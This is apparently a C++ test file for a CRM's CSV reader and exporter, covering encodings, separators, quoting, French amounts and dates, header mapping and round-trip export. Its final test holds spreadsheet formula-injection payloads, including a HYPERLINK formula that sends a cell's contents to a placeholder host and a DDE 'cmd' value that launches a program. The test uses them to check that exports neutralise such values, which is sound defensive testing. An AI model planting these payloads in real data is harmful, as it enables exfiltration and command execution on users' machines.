// The CSV reader and writer (core/import/csv.hpp): encodings, separators, quotes, French
// amounts and dates, columns mapped from their headers; list.export_csv writes what the
// reader reads back, and neutralises what a spreadsheet would run.
#include "core/import/csv.hpp"
#include "core/import/fec.hpp"
#include "core/import/sheet.hpp"
#include "core/util/format.hpp"
#include "tests/import/import_requests.hpp"

#include <doctest/doctest.h>

using namespace crm;
using namespace crm::dataimport;
using namespace crm::test;
using api::json;

TEST_CASE("CSV reader: encodings, separators and quoting")
{
    // "Société;Crème" in Windows-1252, then the same in UTF-8 with a byte order mark.
    const Decoded cp = decode("Soci\xE9t\xE9;Cr\xE8me \x80");
    CHECK(cp.encoding == "windows-1252");
    CHECK(cp.text == "Société;Crème €");
    const Decoded bom = decode("\xEF\xBB\xBF"
                               "Société");
    CHECK(bom.encoding == "utf-8-bom");
    CHECK(bom.text == "Société");
    CHECK(decode("plain").encoding == "utf-8");

    CHECK(detectSeparator("a;b;c\n1;2,5;3\n") == ';');
    CHECK(detectSeparator("a,b,c\n1,2,3\n") == ',');
    CHECK(detectSeparator("a\tb\tc\n1\t2\t3\n") == '\t');
    CHECK(detectSeparator("a|b\n1|2\n") == '|');
    CHECK(detectSeparator("\"x;y\",b\n\"1;2\",3\n") == ',');

    const Parsed p = parse(
        "code;name\r\nA1;\"Dupont; fils\"\r\n\r\nA2;\"Il dit \"\"oui\"\"\nsur deux lignes\"\nA3; padded \n", ';');
    REQUIRE_FALSE(p.error);
    REQUIRE(p.records.size() == 4);
    CHECK(p.records[1].fields == std::vector<std::string>{"A1", "Dupont; fils"});
    CHECK(p.records[1].line == 2);
    CHECK(p.records[2].fields[1] == "Il dit \"oui\"\nsur deux lignes");
    CHECK(p.records[2].line == 4);
    CHECK(p.records[3].line == 6);
    CHECK(p.records[3].fields[1] == "padded");

    const Parsed bad = parse("a;b\n1;2\n3;\"never closed\n4;5\n", ';');
    REQUIRE(bad.error);
    CHECK(bad.error->line == 3);
    const Parsed stray = parse("a;b\n\"x\"y;2\n", ';');
    REQUIRE(stray.error);
    CHECK(stray.error->line == 2);
}

TEST_CASE("CSV reader: French amounts and dates")
{
    CHECK(fmt::readAmount("1 234,56", ',') == 123456);
    CHECK(fmt::readAmount("1\u202F234,56\u00A0€", ',') == 123456);
    CHECK(fmt::readAmount("1.234,5", ',') == 123450);
    CHECK(fmt::readAmount("1234.56", '.') == 123456);
    CHECK(fmt::readAmount("1,234.56", '.') == 123456);
    CHECK(fmt::readAmount("-12,00", ',') == -1200);
    CHECK(fmt::readAmount("(12,00)", ',') == -1200);
    CHECK(fmt::readAmount("42", ',') == 4200);
    CHECK_FALSE(fmt::readAmount("12,345", ','));
    CHECK_FALSE(fmt::readAmount("12 euros", ','));
    CHECK_FALSE(fmt::readAmount("", ','));
    CHECK_FALSE(fmt::readAmount("1,2,3", ','));
    CHECK_FALSE(fmt::readAmount("12-", ','));

    CHECK(detectDecimal({"1 234,56", "12,5", "300"}, '.') == ',');
    CHECK(detectDecimal({"1234.56", "1,234.50"}, ',') == '.');
    CHECK(detectDecimal({"300", "12"}, ',') == ',');

    CHECK(fmt::readDate("24/11/2026", "dmy") == std::optional<std::string>("2026-11-24"));
    CHECK(fmt::readDate("1/2/26", "dmy") == std::optional<std::string>("2026-02-01"));
    CHECK(fmt::readDate("24.11.2026", "dmy") == std::optional<std::string>("2026-11-24"));
    CHECK(fmt::readDate("2026-11-24", "ymd") == std::optional<std::string>("2026-11-24"));
    CHECK(fmt::readDate("20261124", "compact") == std::optional<std::string>("2026-11-24"));
    CHECK_FALSE(fmt::readDate("30/02/2026", "dmy"));
    CHECK_FALSE(fmt::readDate("24/11-2026", "dmy"));
    CHECK_FALSE(fmt::readDate("2026-11-24", "dmy"));
    CHECK(detectDateFormat({"2026-01-31", "", "2026-12-01"}) == "ymd");
    CHECK(detectDateFormat({"31/01/2026", "01/12/2026"}) == "dmy");

    CHECK(canonicalChoice("method", "Virement") == std::optional<std::string>("transfer"));
    CHECK(canonicalChoice("method", "Prélèvement") == std::optional<std::string>("direct_debit"));
    CHECK(canonicalChoice("kind", "AVOIR") == std::optional<std::string>("credit_note"));
    CHECK_FALSE(canonicalChoice("method", "bitcoin"));
}

TEST_CASE("CSV reader: columns mapped from French headers")
{
    const auto m = guessMapping(Kind::Invoices,
        {"N° facture", "Code client", "Raison sociale", "Date facture", "Échéance", "Montant TTC", "Libellé"});
    CHECK(m.at("number") == "N° facture");
    CHECK(m.at("client_code") == "Code client");
    CHECK(m.at("client_name") == "Raison sociale");
    CHECK(m.at("issue_date") == "Date facture");
    CHECK(m.at("due_date") == "Échéance");
    CHECK(m.at("amount") == "Montant TTC");
    CHECK(m.at("description") == "Libellé");
}

TEST_CASE("list.export_csv: every page of a list, French formats, and it imports back unchanged")
{
    test::World w;
    for (int i = 0; i < 1203; ++i)
        w.call("client.create",
            {{"code", "K" + std::to_string(i)}, {"name", "Client; \"n°" + std::to_string(i) + "\""},
                {"credit_limit_cents", 123456}, {"email", "c" + std::to_string(i) + "@ex.fr"}},
            w.admin);
    const auto c = w.client("ZZ");
    w.invoice(c, "F-1", 123456, "2026-10-31", "2026-10-01");
    const json r = w.call("list.export_csv", {{"list", "client.list"}, {"params", {{"sort", "code"}}}}, w.admin);
    REQUIRE_MESSAGE(r.contains("content"), r.dump());
    CHECK(r["rows"] == 1204);
    const std::string text = r["content"];
    CHECK(text.rfind("\xEF\xBB\xBF", 0) == 0);
    CHECK(text.find("\"Client; \"\"n°0\"\"\"") != std::string::npos);
    CHECK(text.find(";1234,56;") != std::string::npos);
    CHECK(text.find("\r\n") != std::string::npos);

    const json back = csv(w, "import.preview", "clients", text);
    REQUIRE_MESSAGE(back.contains("rows"), back.dump().substr(0, 2000));
    CHECK(back["counts"]["unchanged"] == 1204);
    CHECK(back["counts"]["error"] == 0);

    const json inv = w.call("list.export_csv", {{"list", "invoice.list"}}, w.admin);
    const std::string itext = inv["content"];
    CHECK(inv["rows"] == 1);
    CHECK(itext.find("31/10/2026") != std::string::npos);
    CHECK(itext.find("1234,56") != std::string::npos);

    // The list's own permission: agents see their own clients only, never the log.
    CHECK(w.call("list.export_csv", {{"list", "client.list"}}, w.agent)["rows"] == 0);
    CHECK(w.call("list.export_csv", {{"list", "log.list"}}, w.agent)["code"] == "forbidden");
    CHECK(w.call("list.export_csv", {{"list", "client.create"}}, w.admin)["field"] == "list");
    CHECK(w.call("list.export_csv", {{"list", "client.list"}, {"params", {{"sort", "colour"}}}}, w.admin)["code"]
        == "validation");
}

// Issue 23, finding 5 (2026-12-07): a client name planted by an agent (=HYPERLINK(...), =cmd|...)
// ran as a formula in the manager's spreadsheet. Text that starts a formula is written behind an
// apostrophe; amounts stay numbers; the export still reads back unchanged.
TEST_CASE("list.export_csv: text that a spreadsheet would run is neutralised, amounts stay numbers")
{
    test::World w;
    const std::vector<std::string> planted
        = {"=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0"};
    for (std::size_t i = 0; i < planted.size(); ++i)
        CHECK(
            w.call("client.create", {{"code", "P" + std::to_string(i)}, {"name", planted[i]}}, w.admin).contains("id"));
    const auto c = w.client("ZZ");
    w.invoice(c, "F-1", 123456, "2026-10-31", "2026-10-01");
    w.call("payment.record",
        {{"client_id", c}, {"date", "2026-11-02"}, {"amount_cents", 5000}, {"method", "transfer"}, {"reference", "-5"}},
        w.admin);
    const json r = w.call("list.export_csv", {{"list", "client.list"}, {"params", {{"sort", "code"}}}}, w.admin);
    const std::string text = r["content"];
    CAPTURE(text);
    // Every cell of the planted names starts with the apostrophe; none starts a formula.
    const auto lines = dataimport::parse(dataimport::decode(text).text, ';');
    REQUIRE(lines.records.size() == planted.size() + 2);
    int nameCol = -1;
    for (std::size_t k = 0; k < lines.records[0].fields.size(); ++k)
        if (lines.records[0].fields[k] == "name")
            nameCol = static_cast<int>(k);
    REQUIRE(nameCol >= 0);
    for (const auto& p : planted) {
        const std::string name = "'" + p;
        const bool written = text.find(";" + name + ";") != std::string::npos
            || text.find(";" + dataimport::csvField(name, ';') + ";") != std::string::npos;
        CHECK(written);
    }
    for (const std::string raw : {";=HYPERLINK", ";+1;", ";-1;", ";@SUM", ";=cmd"})
        CHECK(text.find(raw) == std::string::npos);
    // The reader drops the apostrophe again: what was exported imports back unchanged.
    const json back = csv(w, "import.preview", "clients", text);
    CHECK(back["counts"]["unchanged"] == static_cast<int>(planted.size()) + 1);
    CHECK(back["counts"]["error"] == 0);
    // A tab or a carriage return first (names are trimmed, so other text fields carry them).
    CHECK(dataimport::spreadsheetText("\tx") == "'\tx");
    CHECK(dataimport::spreadsheetText("\r=1") == "'\r=1");
    CHECK(dataimport::spreadsheetText("a=1") == "a=1");
    CHECK(dataimport::spreadsheetText("") == "");
    // Amounts are numbers, a negative one too (a credit note's), never behind an apostrophe.
    const json pay = w.call("list.export_csv", {{"list", "payment.list"}}, w.admin);
    const std::string ptext = pay["content"];
    CHECK(ptext.find(";50,00;") != std::string::npos);
    CHECK(ptext.find("'-5") != std::string::npos); // the reference is text
    CHECK(ptext.find("'50,00") == std::string::npos);
}
